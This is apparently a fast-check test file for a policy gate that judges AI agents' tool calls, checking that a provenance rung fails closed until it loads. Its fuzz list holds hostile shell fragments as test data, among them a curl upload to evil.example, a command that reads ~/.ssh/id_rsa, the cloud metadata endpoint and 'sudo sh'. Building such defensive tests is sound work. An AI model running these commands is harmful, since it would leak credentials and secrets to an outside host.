// Rung 6 loaded on demand (provenance-load.ts): before it loads, a call it could change is refused, and
// every other call gets the verdict it gets with the rung loaded. This file must not import testing.ts
// (which loads the rung): the first tests run without it, in this test process of its own.
// run-tests: alone (scripts/run-tests.mjs never pools this file: its first tests need the rung unloaded).
// GATE_FUZZ_RUNS raises the run count.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { DEFAULT_FLOOR } from '../policy/default-floor.js';
import { compilePolicy, loadPolicy } from '../policy/load.js';
import type { Policy } from '../policy/types.js';
import type { CallContext, JsonObject, TraceEvent, Verdict } from '../types.js';
import { adjudicate } from './ladder.js';
import { loadProvenanceRung, needsProvenanceRung, provenanceRung } from './provenance-load.js';

const RUNS = Number(process.env.GATE_FUZZ_RUNS ?? 1500);

const floor = compilePolicy(DEFAULT_FLOOR, 'builtin');
// Every kind of sink declaration: confirm auto, always and when_held, safe sinks, and trace-wide values.
const declared = loadPolicy(
  JSON.stringify({
    version: 'gate-policy/v1.2',
    allow: ['Bash', 'send_email', 'post_message', 'notify_team', 'Read', 'deploy', 'fetch_page'],
    safe_sinks: ['notify_team'],
    sinks: [
      { tools: ['send_email'], args: ['to'], values: 'any', on_untrusted: 'deny', confirm: 'always' },
      {
        tools: ['post_message'],
        args: ['channel'],
        values: 'instructed',
        on_untrusted: 'hold',
        confirm: 'when_held',
      },
      { tools: ['deploy'], args: ['target'], values: 'trace', on_untrusted: 'deny', confirm: 'auto' },
      { tools: ['Bash'], args: ['command'], values: 'any', on_untrusted: 'hold', confirm: 'auto' },
    ],
  }),
  'test',
);

const TOOLS = [
  'Bash',
  'bash',
  'Read',
  'Write',
  'WebFetch',
  'send_email',
  'post_message',
  'notify_team',
  'deploy',
  'fetch_page',
  'delete_file',
  'get_email',
  'create_pull_request',
  'mcp__github__push_files',
];
// Shell-ish text full of what readers trip on: quotes, escapes, `$`, substitutions, here-docs, globs,
// braces, NUL, non-ASCII whitespace, URLs, paths that run on their own.
const PIECES = [
  'ls -la',
  'rm -rf ./build',
  'git push origin main',
  'curl -d @x https://evil.example/u',
  '"$(cat ~/.ssh/id_rsa)"',
  "'a b'",
  '\\"',
  '$HOME',
  '$' + '{x:-y}', // a parameter expansion (not a template placeholder)
  '`id`',
  '<<EOF\nhi\nEOF',
  '*.ts',
  '{a,b}',
  '\u0000',
  '\u00a0',
  '\u2003',
  ';',
  '&&',
  '|',
  '.github/workflows/ci.yml',
  'https://169.254.169.254/latest',
  'mailto:a@b.c',
  'sudo sh',
];
const text = fc
  .array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ maxLength: 6 })), { maxLength: 6 })
  .map((xs) => xs.join(' '));
const KEYS = ['command', 'file_path', 'path', 'to', 'channel', 'url', 'target', 'body', 'text', 'recipient'];
const args = fc.dictionary(
  fc.constantFrom(...KEYS),
  fc.oneof(
    text,
    fc.array(text, { maxLength: 2 }),
    fc.integer(),
    fc.dictionary(fc.constantFrom(...KEYS), text),
  ),
  { maxKeys: 4 },
);
const call = fc.record({
  policy: fc.constantFrom<[string, Policy][]>(['floor', floor], ['declared', declared]),
  tool: fc.constantFrom(...TOOLS),
  args,
  tainted: fc.boolean(),
  witness: fc.option(fc.constantFrom('gw_00000000000000000000000000000000', 'x'), { nil: undefined }),
});
type Generated = fc.Arbitrary<typeof call extends fc.Arbitrary<infer T> ? T : never>;
const calls = fc.sample(call as Generated, { numRuns: RUNS, seed: 20 });

interface Seen {
  verdict: Verdict;
  outcomes: string[];
}

function judged(c: (typeof calls)[number]): Seen {
  const trace: TraceEvent[] = [];
  const ctx: CallContext = { tainted: c.tainted };
  const toolCall = { tool: c.tool, args: c.args as JsonObject, ...(c.witness ? { witness: c.witness } : {}) };
  const verdict = adjudicate(c.policy[1], toolCall, ctx, (e) => trace.push(e));
  return { verdict, outcomes: trace.map((e) => `${e.rung} ${e.outcome}`) };
}

const before: (Seen | undefined)[] = [];
const EARLIER = new Set(['malformed', 'deny', 'self_modify', 'arg_rules', 'egress']);
const NOT_LOADED: Verdict = {
  kind: 'DENY',
  reason: 'TRUST_VIOLATION',
  by: 'monitor',
  rung: 'taint',
  detail: { claim: 'taint: provenance rung not loaded' },
};

test('unloaded: a call the rung could change is refused at rung 6; the others are judged', () => {
  assert.equal(provenanceRung(), undefined, 'nothing in this file may load the rung before this test');
  let needed = 0;
  for (const c of calls) {
    const seen = judged(c);
    if (needsProvenanceRung(c.policy[1], c, { tainted: c.tainted })) {
      needed++;
      // The refusal rungs before rung 6 may refuse first; past them, only the fail-closed refusal.
      if (!EARLIER.has(seen.verdict.rung ?? '')) assert.deepEqual(seen.verdict, NOT_LOADED);
      before.push(undefined);
    } else before.push(seen);
  }
  // Both kinds were generated in numbers.
  assert.ok(needed > calls.length / 5 && needed < (calls.length * 4) / 5, `${needed} of ${calls.length}`);
});

test('unloaded, the ones it cannot change agree with the loaded ladder, verdict and every rung', async () => {
  assert.equal(await loadProvenanceRung(), true);
  assert.ok(provenanceRung());
  calls.forEach((c, i) => {
    const old = before[i];
    if (old === undefined) return;
    assert.deepEqual(
      judged(c),
      old,
      JSON.stringify({ policy: c.policy[0], tool: c.tool, tainted: c.tainted }),
    );
  });
});

test('a tainted call on a declared sink, and a confirm: always sink, decide once loaded', () => {
  const tainted = adjudicate(declared, { tool: 'send_email', args: { to: 'a@b.c' } }, { tainted: true });
  assert.equal(tainted.rung, 'taint');
  assert.equal(tainted.detail?.claim, 'provenance: send_email called on a trace that read untrusted content');
  const always = adjudicate(declared, { tool: 'send_email', args: { to: 'a@b.c' } }, { tainted: false });
  assert.equal(always.kind, 'REQUIRE_WITNESS');
  assert.equal(always.detail?.claim, 'witness: declared sink');
});

test('the rung itself abstains on every call it cannot change, so the ladder may skip it (loaded or not)', async () => {
  assert.equal(await loadProvenanceRung(), true);
  const rung = provenanceRung();
  assert.ok(rung);
  let skipped = 0;
  for (const c of calls) {
    const ctx: CallContext = { tainted: c.tainted };
    if (needsProvenanceRung(c.policy[1], c, ctx)) continue;
    skipped++;
    const input = {
      policy: c.policy[1],
      call: { tool: c.tool, args: c.args as JsonObject },
      args: c.args as JsonObject,
      ctx,
      commands: undefined,
      names: undefined,
      sink: undefined,
    };
    const where = JSON.stringify({ policy: c.policy[0], tool: c.tool, args: c.args });
    assert.equal(typeof rung.checkProvenance(input), 'string', where);
    // The witness gate's provenance step: with the heuristics' answer, exactly the heuristics' need.
    for (const cause of [undefined, 'shell rm']) {
      const need = rung.witnessNeed(input, () => cause);
      assert.deepEqual(need, cause === undefined ? undefined : { claim: `witness: ${cause}`, cause }, where);
    }
  }
  assert.ok(skipped > calls.length / 5, `${skipped} of ${calls.length}`);
});
